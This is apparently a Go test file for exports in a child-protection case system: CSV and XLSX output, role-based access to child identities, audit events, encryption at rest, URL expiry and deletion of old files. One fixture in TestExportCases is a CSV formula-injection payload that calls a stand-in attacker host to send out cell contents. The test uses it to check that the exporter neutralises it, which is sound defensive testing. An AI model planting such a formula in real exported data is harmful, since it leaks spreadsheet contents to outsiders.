package statistics_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"amparo/internal/apperr"
	"amparo/internal/casefile"
	"amparo/internal/child"
	"amparo/internal/export"
	"amparo/internal/statistics"
)

// download fetches an export's URL.
func download(t *testing.T, url string) (int, []byte) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, b
}

// exportEvent is the audit event of export id.
func (f *fixture) exportEvent(t *testing.T, id string) map[string]any {
	t.Helper()
	var ev struct {
		Rows   int    `db:"rows"`
		SHA256 string `db:"sha256"`
		Action string `db:"action"`
	}
	if err := f.db.App.Get(&ev, `SELECT action, (details->>'rows')::int AS rows, details->>'sha256' AS sha256
		FROM audit.events WHERE object_type = 'export' AND object_id = $1`, id); err != nil {
		t.Fatal(err)
	}
	return map[string]any{"rows": ev.Rows, "sha256": ev.SHA256, "action": ev.Action}
}

func sum(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

// TestExportCases: a CSV of cases is UTF-8 with a BOM, its formula-looking
// cells are inert, identities come only to those who may read them (each
// read audited), and the export is audited with its row count and hash.
func TestExportCases(t *testing.T) {
	f := newFixture(t, true, 0)
	// Two PGN cases filed through the registry (identities sealed as
	// always), whose name and summary look like formulas; one of SBS.
	officer := f.as(t, "officer@pgn.demo")
	for i, c := range [][2]string{{`=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "+57 llamó; @todos"}, {"Ángel", "-\tniño en tránsito"}} {
		age := 14
		if _, err := f.cases.File(officer, casefile.FileInput{IdempotencyKey: fmt.Sprintf("export-%d-0001", i),
			Child: child.Input{GivenName: &c[0], AgeYears: &age, Sex: "FEMALE", Nationality: "HND", PopulationStatus: "MIGRANT_TRANSIT",
				CareStatus: "UNACCOMPANIED"},
			Violations: []casefile.ViolationInput{{Type: "TRAFFICKING"}}, DepartmentCode: "GT-13", Urgency: casefile.High,
			Summary: c[1]}); err != nil {
			t.Fatal(err)
		}
	}
	f.seed(t, []rec{{inst: "SBS", dept: "GT-17", sex: "MALE", band: "AGE_0_5", vtype: "NEGLECT", at: march, key: 3}})
	today := time.Now().In(child.Guatemala).Format(time.DateOnly)
	t.Run("SupervisorWithIdentities", func(t *testing.T) {
		ex, err := f.svc.ExportCases(f.as(t, "supervisor@pgn.demo"), statistics.ExportCasesInput{Format: export.CSV, IncludeIdentity: true})
		if err != nil {
			t.Fatal(err)
		}
		if ex.Rows != 2 || ex.ExpiresAt.After(time.Now().Add(export.MaxURLTTL)) {
			t.Fatalf("export %+v", ex)
		}
		code, body := download(t, ex.URL)
		if code != http.StatusOK {
			t.Fatalf("download: %d %s", code, body)
		}
		if !bytes.HasPrefix(body, []byte("\uFEFF")) {
			t.Errorf("no byte order mark")
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 3 {
			t.Fatalf("%d records, want header and 2", len(recs))
		}
		col := func(name string) int {
			for i, h := range recs[0] {
				if h == name {
					return i
				}
			}
			t.Fatalf("no column %s in %v", name, recs[0])
			return -1
		}
		got := map[string]bool{}
		for _, r := range recs[1:] {
			got[r[col("given_name")]], got[r[col("summary")]] = true, true
			if r[col("filed_on")] != today {
				t.Errorf("filed_on %q, want %s", r[col("filed_on")], today)
			}
		}
		for _, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "'+57 llamó; @todos", "Ángel", "'-\tniño en tránsito"} {
			if !got[want] {
				t.Errorf("no cell %q in %v", want, got)
			}
		}
		if ev := f.exportEvent(t, ex.ID.String()); ev["rows"] != 2 || ev["sha256"] != sum(body) || ex.SHA256 != sum(body) {
			t.Errorf("audit %v, export sha %s, file sha %s", ev, ex.SHA256, sum(body))
		}
		var reads int
		if err := f.db.App.Get(&reads, `SELECT count(*) FROM audit.events WHERE action = 'identity:read' AND outcome = 'SUCCESS'`); err != nil {
			t.Fatal(err)
		}
		if reads != 2 {
			t.Errorf("%d identity reads audited, want 2", reads)
		}
		enc, err := f.exports.Encrypted(t.Context(), ex.ID.String()+".csv")
		if err != nil || !enc {
			t.Errorf("encrypted at rest: %v %v", enc, err)
		}
	})
	t.Run("OversightWithoutIdentities", func(t *testing.T) {
		ex, err := f.svc.ExportCases(f.as(t, "oversight@pdh.demo"), statistics.ExportCasesInput{Format: export.CSV})
		if err != nil {
			t.Fatal(err)
		}
		_, body := download(t, ex.URL)
		if ex.Rows != 3 || bytes.Contains(body, []byte("HYPERLINK")) || bytes.Contains(body, []byte("Ángel")) || bytes.Contains(body, []byte("given_name")) || bytes.Contains(body, []byte("llamó")) {
			t.Errorf("rows %d, body %s", ex.Rows, body)
		}
	})
	t.Run("OversightAsksForIdentities", func(t *testing.T) {
		_, err := f.svc.ExportCases(f.as(t, "oversight@pdh.demo"), statistics.ExportCasesInput{Format: export.CSV, IncludeIdentity: true})
		if !apperr.Is(err, apperr.Forbidden) {
			t.Errorf("err = %v, want FORBIDDEN", err)
		}
	})
	t.Run("OfficerMayNotExport", func(t *testing.T) {
		_, err := f.svc.ExportCases(f.as(t, "officer@pgn.demo"), statistics.ExportCasesInput{Format: export.CSV})
		if !apperr.Is(err, apperr.Forbidden) {
			t.Errorf("err = %v, want FORBIDDEN", err)
		}
	})
	t.Run("UnknownFormat", func(t *testing.T) {
		_, err := f.svc.ExportCases(f.as(t, "oversight@pdh.demo"), statistics.ExportCasesInput{Format: "PDF"})
		if ae, ok := apperr.As(err); !ok || ae.Field != "format" {
			t.Errorf("err = %v, want BAD_USER_INPUT at format", err)
		}
	})
}

// TestExportStatisticsXLSX: the XLSX file, reopened with excelize, holds
// the same rows as the table.
func TestExportStatisticsXLSX(t *testing.T) {
	f := newFixture(t, true, 0)
	var recs []rec
	for i := range 40 {
		recs = append(recs, rec{inst: "PGN", dept: []string{"GT-12", "GT-13", "GT-17"}[i%3], sex: []string{"FEMALE", "MALE"}[i%2],
			band: "AGE_13_17", vtype: "TRAFFICKING", at: march, key: uint32(i) * 40503})
	}
	f.seed(t, recs)
	ctx := f.as(t, "oversight@pdh.demo")
	in := statistics.Input{Measure: statistics.Cases, Rows: []string{statistics.Department}, Columns: []string{statistics.Sex}}
	tab, err := f.svc.Table(ctx, in)
	if err != nil {
		t.Fatal(err)
	}
	ex, err := f.svc.ExportTable(ctx, statistics.ExportTableInput{Statistics: in, Format: export.XLSX})
	if err != nil {
		t.Fatal(err)
	}
	code, body := download(t, ex.URL)
	if code != http.StatusOK {
		t.Fatalf("download: %d", code)
	}
	x, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows(x.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(tab.Rows)+2 || ex.Rows != len(tab.Rows)+1 {
		t.Fatalf("%d sheet rows, export rows %d, table rows %d", len(rows), ex.Rows, len(tab.Rows))
	}
	if got := strings.Join(rows[0], ","); got != "DEPARTMENT,FEMALE,MALE,TOTAL,SUPPRESSED_CELLS" {
		t.Errorf("header %s", got)
	}
	str := func(v *int) string {
		if v == nil {
			return ""
		}
		return strconv.Itoa(*v)
	}
	for i, r := range tab.Rows {
		want := []string{r.Key[0], str(r.Cells[0].Value), str(r.Cells[1].Value), str(r.Total)}
		for j, w := range want {
			if j >= len(rows[i+1]) || rows[i+1][j] != w {
				t.Errorf("row %d: %v, want %v", i+1, rows[i+1], want)
				break
			}
		}
	}
	if ev := f.exportEvent(t, ex.ID.String()); ev["action"] != statistics.PermExport || ev["sha256"] != sum(body) {
		t.Errorf("audit %v", ev)
	}

	t.Run("Report", func(t *testing.T) {
		ex, err := f.svc.ExportReport(ctx, statistics.ExportReportInput{Format: export.XLSX})
		if err != nil {
			t.Fatal(err)
		}
		_, body := download(t, ex.URL)
		x, err := excelize.OpenReader(bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		if n := len(x.GetSheetList()); n < 10 {
			t.Errorf("%d sheets", n)
		}
	})
}

// TestExportURLExpires: a download URL stops working when it expires.
func TestExportURLExpires(t *testing.T) {
	// Long enough for the fresh download to happen in time on a loaded
	// machine (one second was not, under CI's parallel load), short
	// enough to wait out.
	f := newFixture(t, true, 4*time.Second)
	ctx := f.as(t, "oversight@pdh.demo")
	ex, err := f.svc.ExportTable(ctx, statistics.ExportTableInput{Format: export.CSV,
		Statistics: statistics.Input{Measure: statistics.Cases, Rows: []string{statistics.Sex}}})
	if err != nil {
		t.Fatal(err)
	}
	if code, _ := download(t, ex.URL); code != http.StatusOK {
		t.Fatalf("fresh URL: %d", code)
	}
	time.Sleep(time.Until(ex.ExpiresAt) + 1500*time.Millisecond)
	if code, _ := download(t, ex.URL); code != http.StatusForbidden {
		t.Errorf("expired URL: %d, want 403", code)
	}
}

// TestSweepDeletesOldExports: the janitor deletes what is a day old.
func TestSweepDeletesOldExports(t *testing.T) {
	f := newFixture(t, true, 0)
	ctx := f.as(t, "oversight@pdh.demo")
	ex, err := f.svc.ExportTable(ctx, statistics.ExportTableInput{Format: export.CSV,
		Statistics: statistics.Input{Measure: statistics.Cases, Rows: []string{statistics.Sex}}})
	if err != nil {
		t.Fatal(err)
	}
	if n, err := f.exports.Sweep(ctx, time.Now()); err != nil || n != 0 {
		t.Fatalf("sweep now: %d %v", n, err)
	}
	if n, err := f.exports.Sweep(ctx, time.Now().Add(export.Retention+time.Minute)); err != nil || n != 1 {
		t.Fatalf("sweep a day later: %d %v", n, err)
	}
	if _, err := f.exports.Encrypted(ctx, ex.ID.String()+".csv"); !apperr.Is(err, apperr.NotFound) {
		t.Errorf("after sweep: %v, want NOT_FOUND", err)
	}
}
